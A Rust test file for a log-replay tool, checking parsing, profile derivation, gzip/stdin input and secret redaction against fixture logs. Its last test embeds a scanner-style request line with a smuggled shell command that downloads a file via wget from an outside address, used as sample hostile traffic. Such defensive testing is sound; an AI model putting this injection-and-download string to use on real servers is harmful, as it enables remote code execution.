//! The project's fixtures (fixtures/logs, each with an optional NAME.format
//! holding its --format) against golden outputs in fixtures/golden: every
//! line's record or reject, and the profile `replay derive` writes.

use crate::util::{golden, replay, root, text};
use replay::derive::{DeriveConfig, open_input};
use replay::log::{Format, Parsed};
use std::io::{Read, Write};

fn fixtures() -> Vec<(String, Option<String>)> {
    let mut names: Vec<String> = std::fs::read_dir(root().join("fixtures/logs"))
        .expect("fixtures/logs exists")
        .map(|e| e.expect("dir entry").file_name().to_string_lossy().into_owned())
        .filter(|n| !n.ends_with(".format"))
        .collect();
    names.sort();
    names
        .into_iter()
        .map(|name| {
            let stem = name.rsplit_once('.').map_or(name.as_str(), |(s, _)| s).to_owned();
            let format = std::fs::read_to_string(root().join(format!("fixtures/logs/{stem}.format"))).ok();
            (name, format)
        })
        .collect()
}

/// Every line of a fixture as the parser saw it: a record, a reject, or nothing (skipped).
fn records_of(name: &str, format: Option<&str>) -> String {
    let forced = format.map(|f| f.parse::<Format>().expect("fixture formats parse"));
    let path = root().join("fixtures/logs").join(name);
    let mut opened = open_input(path.to_str().unwrap(), forced.as_ref()).expect("fixture opens");
    let format = opened.format.expect("fixture has lines");
    let mut parser = format.parser().unwrap();
    let mut bytes = Vec::new();
    opened.reader.read_to_end(&mut bytes).unwrap();
    let mut out = format!("# {name}: {}\n", format.name());
    for (i, line) in bytes.split(|&b| b == b'\n').enumerate() {
        let entry = match parser.parse(line) {
            Parsed::Record(r) => serde_json::json!({"line": i + 1, "record": r.to_owned_record()}),
            Parsed::Reject(e) => serde_json::json!({"line": i + 1, "rejected": e.to_string()}),
            Parsed::Skip => continue,
        };
        out.push_str(&entry.to_string());
        out.push('\n');
    }
    out
}

#[test]
fn fixtures_match_their_golden_records() {
    let fixtures = fixtures();
    assert!(fixtures.len() >= 12, "every format has a fixture");
    for (name, format) in &fixtures {
        golden(&root().join(format!("fixtures/golden/{name}.records.jsonl")), &records_of(name, format.as_deref()));
    }
}

#[test]
fn fixtures_derive_to_their_golden_profiles() {
    for (name, format) in fixtures() {
        let path = format!("fixtures/logs/{name}");
        let mut args = vec!["derive", path.as_str()];
        if let Some(format) = &format {
            args.extend(["--format", format]);
        }
        let out = replay(&args, b"");
        assert_eq!(out.status.code(), Some(0), "{name}: {}", text(&out.stderr));
        golden(&root().join(format!("fixtures/golden/{name}.profile.json")), &text(&out.stdout));
    }
}

#[test]
fn combined_fixture_counts_and_span() {
    let out = replay(&["derive", "fixtures/logs/combined.log"], b"");
    let profile: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let source = &profile["source"];
    assert_eq!(source["format"], "combined");
    assert_eq!((source["lines"].as_u64(), source["skipped"].as_u64(), source["rejected"].as_u64()), (Some(20), Some(1), Some(3)));
    // The out-of-order line is the earliest; the line without a final newline is the latest.
    assert_eq!(source["first"], "2000-10-10T20:55:30Z");
    assert_eq!(source["last"], "2000-10-10T20:55:51Z");
    let stderr = text(&out.stderr);
    assert!(stderr.contains("combined.log:14: rejected: expected a [dd/Mon/yyyy:HH:MM:SS +zzzz] time at column 1"), "{stderr}");
    assert!(stderr.contains("combined.log:16: rejected: expected a valid calendar date"), "{stderr}");
}

#[test]
fn gzip_and_stdin_read_the_same_as_plain() {
    let plain = std::fs::read(root().join("fixtures/logs/combined.log")).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let gz_path = dir.path().join("combined.log.gz");
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(&plain).unwrap();
    let gz_bytes = gz.finish().unwrap();
    std::fs::write(&gz_path, &gz_bytes).unwrap();

    let source_of = |out: &std::process::Output| {
        let profile: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|_| panic!("{}", text(&out.stderr)));
        let mut source = profile["source"].clone();
        source["files"] = serde_json::Value::Null;
        source
    };
    let from_plain = source_of(&replay(&["derive", "fixtures/logs/combined.log"], b""));
    let from_gz = source_of(&replay(&["derive", gz_path.to_str().unwrap()], b""));
    let from_stdin = source_of(&replay(&["derive", "-"], &plain));
    let from_gz_stdin = source_of(&replay(&["derive", "-"], &gz_bytes));
    assert_eq!((from_plain["records"].as_u64(), from_plain["not_requests"].as_u64()), (Some(14), Some(2)));
    assert_eq!(from_gz, from_plain);
    assert_eq!(from_stdin, from_plain);
    assert_eq!(from_gz_stdin, from_plain);
}

#[test]
fn several_files_add_up() {
    let out = replay(&["derive", "fixtures/logs/common.log", "fixtures/logs/haproxy.log", "fixtures/logs/iis.log"], b"");
    let profile: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let source = &profile["source"];
    assert_eq!(source["format"], "common+haproxy+w3c");
    assert_eq!(source["files"].as_array().map(Vec::len), Some(3));
    assert_eq!(source["records"].as_u64(), Some(4 + 3 + 3));
}

#[test]
fn thread_count_does_not_change_the_profile() {
    // One worker and many must give the same counts and span.
    let config = |threads| DeriveConfig {
        threads,
        ..DeriveConfig::new(vec![root().join("fixtures/logs/combined.log").to_string_lossy().into_owned()])
    };
    let one = replay::derive::derive(&config(1)).unwrap().profile;
    let four = replay::derive::derive(&config(4)).unwrap().profile;
    assert_eq!(one, four);
}

#[test]
fn inputs_years_apart_are_named_with_the_gap_and_what_to_do() {
    let dir = tempfile::tempdir().unwrap();
    let line = |year: u32, i: u32| {
        format!("10.0.0.{} - - [01/Mar/{year}:10:00:{:02} +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"ua\"\n", i % 200, i % 60)
    };
    let (a, b) = (dir.path().join("2015.log"), dir.path().join("2019.log"));
    std::fs::write(&a, (0..60).map(|i| line(2015, i)).collect::<String>()).unwrap();
    std::fs::write(&b, (0..60).map(|i| line(2019, i)).collect::<String>()).unwrap();
    let out =
        crate::util::replay(&["derive", a.to_str().unwrap(), b.to_str().unwrap(), "-o", dir.path().join("p.json").to_str().unwrap()], b"");
    let stderr = crate::util::text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("nothing was logged for") && stderr.contains("--since 2019-03-01"), "{stderr}");
    // One log alone says nothing of the kind.
    let out = crate::util::replay(&["derive", a.to_str().unwrap(), "-o", dir.path().join("q.json").to_str().unwrap()], b"");
    assert!(!crate::util::text(&out.stderr).contains("nothing was logged"));
}

/// A shop's log: a million-product catalogue by slug, a popular sale page beside it, and plain pages.
fn slug_log(lines: usize) -> (String, usize, usize) {
    let mut state: u64 = 7;
    let mut next = move || {
        state = state.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
        state >> 33
    };
    let (mut log, mut slugs, mut sale) = (String::with_capacity(lines * 110), 0, 0);
    for i in 0..lines {
        let path = match next() % 100 {
            0..70 => {
                slugs += 1;
                let word =
                    |n: usize, next: &mut dyn FnMut() -> u64| (0..n).map(|_| (b'a' + (next() % 26) as u8) as char).collect::<String>();
                format!("/p/{}/{}", word(8, &mut next), word(10, &mut next))
            }
            70..78 => {
                sale += 1;
                "/p/sale/today".to_owned()
            }
            78..98 => "/about".to_owned(),
            n => format!("/users/{n}{}", next() % 1000),
        };
        let (sec, client) = (i / 200, next() % 5000);
        log.push_str(&format!(
            "10.1.{}.{} - - [28/Nov/2025:{:02}:{:02}:{:02} +0000] \"GET {path} HTTP/1.1\" 200 512 \"-\" \"ua\"\n",
            client / 250,
            client % 250,
            sec / 3600 % 24,
            sec / 60 % 60,
            sec % 60
        ));
    }
    (log, slugs, sale)
}

#[test]
fn distinct_paths_fold_as_they_stream_the_same_for_any_thread_count() {
    // 36 MB: past the first compaction and the chunks the workers wait out before routing by its rules.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("shop.log");
    let (log, slugs, sale) = slug_log(380_000);
    assert!(log.len() > (replay::scan::MAX_IN_FLIGHT + 2) << 20, "{} bytes", log.len());
    std::fs::write(&path, log).unwrap();
    let config = |threads| DeriveConfig { threads, ..DeriveConfig::new(vec![path.to_string_lossy().into_owned()]) };
    let one = replay::derive::derive(&config(1)).unwrap().profile;
    let two = replay::derive::derive(&config(2)).unwrap().profile;
    assert_eq!(serde_json::to_string(&one).unwrap(), serde_json::to_string(&two).unwrap());
    let count = |path: &str| one.endpoints.iter().find(|e| e.path == path).map(|e| e.count);
    assert_eq!(count("/p/{param}/{param2}"), Some(slugs as u64));
    assert_eq!(count("/p/sale/today"), Some(sale as u64), "the popular literal stays itself");
    assert!(one.endpoints.len() <= 4, "{:?}", one.endpoints.iter().map(|e| &e.path).collect::<Vec<_>>());
    let folded = one.endpoints.iter().find(|e| e.path == "/p/{param}/{param2}").unwrap();
    assert_eq!(folded.params["param2"].len(), 16);
    assert!(folded.params["param2"].iter().all(|v| v.len() == 10 && v.bytes().all(|b| b.is_ascii_lowercase())));
    // Sessions and flows were renumbered as the table compacted: every step names an endpoint.
    let names: Vec<String> = one.endpoints.iter().map(|e| format!("{} {}", e.method, e.path)).collect();
    let flows = &one.sessions.as_ref().unwrap().flows;
    assert!(!flows.is_empty() && flows.iter().flat_map(|f| &f.steps).all(|step| names.contains(step)), "{flows:?}");
}

#[test]
fn a_format_nobody_named_is_read_loosely_and_says_so() {
    // Apache `%h %{remote}p %v %{local}p %t "%r" %>s %b %{ms}T`-like lines: no known format fits.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("custom.log");
    let mut log = String::new();
    for i in 0..40 {
        log.push_str(&format!(
            "203.0.113.{i} 5{i:04} www.example.com 443 [10/Oct/2026:13:55:{:02} +0000] \"GET /items/{i}?sort=price HTTP/1.1\" 200 {} 0.0{:02}\n",
            i % 60,
            500 + i,
            i % 90 + 10
        ));
    }
    // A line off the layout is rejected with where and why, never guessed at.
    log.push_str("203.0.113.99 50099 www.example.com 443 [yesterday] \"GET / HTTP/1.1\" 200 1 0.010\n");
    std::fs::write(&path, log).unwrap();
    let out = replay(&["derive", path.to_str().unwrap()], b"");
    let stderr = text(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(stderr.contains(": loose, 41 lines: 40 requests, 0 skipped, 1 rejected"), "{stderr}");
    assert!(
        stderr.contains("read loosely: client at field 1, time at field 5, request at field 6, status at field 7, size at field 8, duration at field 9; pass --format for the rest"),
        "{stderr}"
    );
    assert!(stderr.contains(":41: rejected: expected a time where the other lines have it (read loosely) at column 40"), "{stderr}");
    let profile: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(profile["source"]["format"], "loose");
    assert_eq!(profile["endpoints"][0]["path"], "/items/{id}");
    assert_eq!(
        profile["endpoints"][0]["latency_ms"]["p50"].as_f64().map(|p| (25.0..=35.0).contains(&p)),
        Some(true),
        "{}",
        profile["endpoints"][0]
    );
    // Lines with no time and request where most lines have them are not read loosely at all.
    std::fs::write(&path, "hello world\nthis is not a log\n\"GET / HTTP/1.1\" 200\n").unwrap();
    let out = replay(&["derive", path.to_str().unwrap()], b"");
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("read loosely, fewer than 85% of lines hold a time and a quoted request"), "{}", text(&out.stderr));
}

#[test]
fn a_scanners_payload_keeps_the_paths_secrets_out_of_its_example() {
    // A shell payload for a query key sends the line to the tail, replayed from its example: the
    // token and the address in its path are replaced there as on any other endpoint.
    let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlLXNlY3JldA";
    let line = |second: u32, target: &str| {
        format!("203.0.113.9 - - [04/Dec/2026:10:00:{second:02} +0000] \"GET {target} HTTP/1.1\" 404 12 \"-\" \"zgrab\"\n")
    };
    let log =
        [line(1, &format!("/reset/{jwt}/bob@example.org?cd+/tmp;wget+http://203.0.113.9/x")), line(2, "/users/42"), line(3, "/users/43")]
            .concat();
    let out = replay(&["derive", "-", "--format", "combined"], log.as_bytes());
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let profile = text(&out.stdout);
    assert!(!profile.contains(jwt) && !profile.contains("bob@example.org"), "{profile}");
    let parsed: serde_json::Value = serde_json::from_str(&profile).unwrap();
    let examples: Vec<&str> = parsed["endpoints"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|e| e["examples"].as_array().into_iter().flatten())
        .filter_map(|x| x.as_str())
        .collect();
    assert!(examples.iter().any(|x| *x == "/reset/{token}/{email}?cd+/tmp;wget+http://203.0.113.9/x"), "{examples:?}");
}
